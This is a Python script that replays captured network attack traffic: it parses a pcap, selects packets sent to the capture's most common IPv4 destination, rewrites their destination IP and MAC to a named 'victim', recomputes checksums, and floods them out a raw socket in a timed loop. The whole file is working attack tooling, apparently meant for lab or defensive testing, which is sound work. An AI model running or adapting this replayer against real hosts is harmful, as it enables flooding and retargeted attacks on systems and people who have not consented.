"""Replays the attack of a capture onto a device: `replay FILE DEVICE VICTIM_MAC VICTIM_IP MAX_RATE SECONDS`.

FILE is a classic pcap of Ethernet frames, or one in gzip. What goes to the capture's most frequent IPv4 destination is sent to
the victim instead, with its own timing, slowed down to MAX_RATE packets/s where it is faster. Prints one line of JSON.
"""
import collections
import gzip
import json
import socket
import struct
import sys
import time


def frames(path):
    with (gzip.open if path.endswith(".gz") else open)(path, "rb") as source:
        data = source.read()
    magic = data[:4]
    order = "<" if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
    per_second = 1e9 if magic in (b"\x4d\x3c\xb2\xa1", b"\xa1\xb2\x3c\x4d") else 1e6
    if magic not in (b"\xd4\xc3\xb2\xa1", b"\xa1\xb2\xc3\xd4", b"\x4d\x3c\xb2\xa1", b"\xa1\xb2\x3c\x4d"):
        sys.exit(f"{path}: not a pcap file")
    if struct.unpack_from(order + "I", data, 20)[0] & 0xFFFF != 1:
        sys.exit(f"{path}: not a capture of Ethernet frames")
    at = 24
    while at + 16 <= len(data):
        seconds, fraction, kept, length = struct.unpack_from(order + "IIII", data, at)
        frame = data[at + 16:at + 16 + kept]
        at += 16 + kept
        if len(frame) >= 34 and frame[12:14] == b"\x08\x00":
            yield seconds + fraction / per_second, frame.ljust(min(length, 1514), b"\0")


def checksum(header):
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main():
    path, device, victim_mac, victim_ip, rate, seconds = sys.argv[1:7]
    captured = list(frames(path))
    if not captured:
        sys.exit(f"{path}: no IPv4 frames")
    target = collections.Counter(frame[30:34] for _, frame in captured).most_common(1)[0][0]
    attack = [(at, frame) for at, frame in captured if frame[30:34] == target]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((device, 0))
    own = out.getsockname()[4]
    to = bytes.fromhex(victim_mac.replace(":", ""))
    address = socket.inet_aton(victim_ip)
    span = max(attack[-1][0] - attack[0][0], 0.001)
    stretch = max(1.0, len(attack) / span / float(rate))
    start, sent = time.monotonic(), 0
    while time.monotonic() - start < float(seconds):
        round_start = time.monotonic()
        for at, frame in attack:
            due = round_start + (at - attack[0][0]) * stretch
            if due - start > float(seconds):
                break
            time.sleep(max(0.0, due - time.monotonic()))
            header = bytearray(frame[14:34])
            header[16:20] = address
            header[10:12] = b"\0\0"
            header[10:12] = struct.pack("!H", checksum(bytes(header)))
            try:
                out.send(to + own + frame[12:14] + bytes(header) + frame[34:])
                sent += 1
            except OSError:
                pass  # the device's queue is full: the flood is as large as it can be
        else:
            continue
        break
    print(json.dumps({"sent": sent, "rate": round(sent / (time.monotonic() - start))}), flush=True)


main()
